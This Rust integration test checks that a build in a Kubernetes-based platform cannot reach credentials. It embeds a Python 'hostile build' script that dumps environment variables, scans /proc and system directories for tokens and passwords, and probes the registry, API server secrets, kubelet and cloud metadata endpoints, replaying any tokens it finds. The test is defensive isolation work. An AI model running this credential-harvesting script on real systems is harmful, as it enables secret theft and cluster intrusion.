//! A build that looks for credentials everywhere finds none, and what it reaches without one is little.
//!
//! | reached from a build | answer |
//! |---|---|
//! | the daemon's registry and the sources beside it | 401, also with everything that looks like a token |
//! | the API server | its version, which every cluster tells; 401 or 403 for all else |
//! | the kubelet | 401 |
//! | metadata of a cloud (169.254.169.254) | whatever the node reaches: a NetworkPolicy is the cluster's matter |
//! | the daemon's API | nothing where it listens on loopback; else as everybody: 401 |

use serde_json::Value;

use super::{python, watch::Watch};
use crate::support::{cluster::Origin, driven, sources};

#[test]
fn a_hostile_build_finds_no_credential() {
    let Some(driven) = driven("a hostile build in a cluster") else { return };
    let secrets = Watch::of_builds(&driven, "secrets");
    let (host, port) = driven.cluster.server();
    let api = format!("https://{host}:{port}");
    let code = SEARCH
        .replace("REGISTRY", &driven.registry)
        .replace("API", &api)
        .replace("NODE", &host)
        .replace("DAEMON", &driven.daemon.port.to_string())
        .replace("SYSTEM", &driven.system);
    let source = sources(&driven, "hostile");
    python(&source, "hostile", &code);
    let said = driven.push("hostile", &source, &[]);
    let log: Vec<&str> = said.lines().filter(|line| line.starts_with("HOSTILE ")).collect();
    assert!(log.last().is_some_and(|line| *line == "HOSTILE done"), "the search did not end:\n{said}");
    let files = log.iter().find_map(|line| line.strip_prefix("HOSTILE files ")).expect("a number");
    assert!(files.parse::<u64>().expect("a number") > 100, "it read {files} files");

    // What there is to find.
    let mut known = vec![("the password of the administrator", driven.daemon.password.clone())];
    for secret in driven.objects(&["secrets", "-A"]) {
        known.extend(values(&secret).into_iter().map(|value| ("a secret of the cluster", value)));
        known.extend(passwords(&secret).into_iter().map(|value| ("a password for pulls", value)));
    }
    for secret in secrets.seen() {
        known.extend(tokens(&secret).into_iter().map(|token| ("the token of a staging", token)));
    }
    assert!(known.iter().any(|(what, _)| what.contains("staging")), "the test knows no token");
    for (what, value) in known.iter().filter(|(_, value)| value.len() >= 12) {
        assert!(!said.contains(value.as_str()), "the build found {what}");
    }
    assert!(!log.iter().any(|line| line.contains("account ")), "{log:#?}");

    for line in log.iter().filter_map(|line| line.strip_prefix("HOSTILE GET ")) {
        let (url, answer) = line.rsplit_once(' ').expect("an address and an answer");
        let allowed: &[&str] = match url {
            _ if url.ends_with("/version") => &["200", "401", "403"],
            // Somebody else's cluster may be in a cloud.
            _ if url.contains("169.254.169.254") && driven.cluster.origin == Origin::Named => continue,
            // The machine's own network may answer for addresses that nobody has.
            _ if url.contains("169.254.169.254") => &["401", "403", "404", "nothing"],
            // What looks like a token may have in it what no header can have.
            // Who guesses often has to wait.
            _ => &["400", "401", "403", "429", "nothing"],
        };
        assert!(allowed.contains(&answer), "{url} answers {answer}\n{log:#?}");
    }
    let answers = |url: &str, answer: &str| log.iter().any(|line| line.contains(url) && line.ends_with(answer));
    assert!(answers("/v2/", "401"), "the registry was reached:\n{log:#?}");
    assert!(answers("/api/v1/secrets", "403") || answers("/api/v1/secrets", "401"), "the API server, too:\n{log:#?}");
    driven.daemon.run(["apps", "delete", "hostile"]);
}

/// The values of a secret, as far as they are text.
fn values(secret: &Value) -> Vec<String> {
    use base64::{Engine as _, engine::general_purpose::STANDARD};
    let all = secret["data"].as_object().into_iter().flat_map(|data| data.values());
    all.filter_map(|value| String::from_utf8(STANDARD.decode(value.as_str()?).ok()?).ok()).collect()
}

/// What the kubelet pulls with.
fn passwords(secret: &Value) -> Vec<String> {
    let registries = |config: String| {
        let config: Value = serde_json::from_str(&config).ok()?;
        Some(config["auths"].as_object()?.values().cloned().collect::<Vec<_>>())
    };
    let all = values(secret).into_iter().filter_map(registries).flatten();
    all.flat_map(|registry| ["password", "auth"].map(|name| registry[name].as_str().map(str::to_owned)))
        .flatten()
        .collect()
}

/// The tokens in the steps of a build.
fn tokens(secret: &Value) -> Vec<String> {
    let token = |step: String| {
        let step: Value = serde_json::from_str(&step).ok()?;
        Some(step["files"]["/run/epiniod/token"].as_str()?.to_owned())
    };
    values(secret).into_iter().filter_map(token).collect()
}

/// Whatever looks like a credential is said, and tried.
const SEARCH: &str = r#"import re, ssl, urllib.request, urllib.error
pattern = re.compile(rb"[A-Za-z0-9_-]{16,}\.[A-Za-z0-9_.=-]{16,}|(?i:bearer|basic) +[A-Za-z0-9+/=._-]{8,}|(?i:passw|token|secret|credential)[^\n]{0,200}")
hits, tokens, files = set(), set(), 0
def look(path, limit=2_000_000):
    nonlocal files
    try:
        with open(path, "rb") as file:
            text = file.read(limit)
    except OSError:
        return
    files += 1
    for hit in pattern.findall(text):
        hit = hit.decode("utf-8", "replace")
        hits.add((path, hit))
        if "." in hit and " " not in hit:
            tokens.add(hit)
for name, value in os.environ.items():
    say(f"HOSTILE env {name}={value}")
for process in os.listdir("/proc"):
    if process.isdigit():
        for name in ["environ", "cmdline", "cwd/.netrc"]:
            look(f"/proc/{process}/{name}")
        try:
            for fd in os.listdir(f"/proc/{process}/fd"):
                target = os.readlink(f"/proc/{process}/fd/{fd}")
                if target.startswith("/") and not target.startswith("/dev"):
                    look(f"/proc/{process}/fd/{fd}")
        except OSError:
            pass
for root in ["/run", "/var/run", "/etc", "/home", "/root", "/tmp", "/platform", "/workspace", "/layers", "/cnb", "/dev/shm", "/var/lib", "/mnt", "/opt"]:
    for folder, folders, names in os.walk(root):
        for name in names:
            path = os.path.join(folder, name)
            if os.path.isfile(path) and not path.endswith((".py", ".pyc", ".so")):
                look(path)
for path, hit in sorted(hits):
    if not path.startswith(("/layers/", "/var/lib/dpkg", "/etc/ssl", "/workspace/own")):
        say(f"HOSTILE hit {path}: {hit}")
for path in ["/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/kubernetes.io/serviceaccount/token"]:
    if os.path.exists(path):
        say(f"HOSTILE account {path}")
say(f"HOSTILE files {files}")
context = ssl._create_unverified_context()
def get(url, token=None):
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    try:
        request = urllib.request.Request(url, headers=headers)
        opener = urllib.request.build_opener(urllib.request.ProxyHandler({}), urllib.request.HTTPSHandler(context=context))
        answer = opener.open(request, timeout=3).status
    except urllib.error.HTTPError as error:
        answer = error.code
    except Exception:
        answer = "nothing"
    say(f"HOSTILE GET {url} {answer}")
digest = "0" * 64
urls = ["http://REGISTRY/v2/", "http://REGISTRY/v2/_catalog", "http://REGISTRY/v2/workspace/hostile/tags/list",
        f"http://REGISTRY/blobs/sha256:{digest}", "http://NODE:30500/v2/", "http://epiniod-registry.SYSTEM.svc:30500/v2/",
        "API/version", "API/api/v1/secrets", "API/api/v1/namespaces/SYSTEM/secrets", "API/api/v1/namespaces/SYSTEM-builds/pods",
        "https://kubernetes.default.svc/api/v1/secrets", "https://kubernetes.default.svc/apis/epiniod.dev/v1/apps",
        "https://NODE:10250/pods", "http://NODE:10255/pods", "http://169.254.169.254/latest/meta-data/",
        "http://" + "REGISTRY".split(":")[0] + ":DAEMON/api/v1/info"]
for url in urls:
    get(url)
for token in sorted(tokens, key=len, reverse=True)[:5]:
    for url in ["http://REGISTRY/v2/", "http://REGISTRY/v2/workspace/hostile/tags/list", "API/api/v1/secrets"]:
        get(url, token)
say("HOSTILE done")"#;
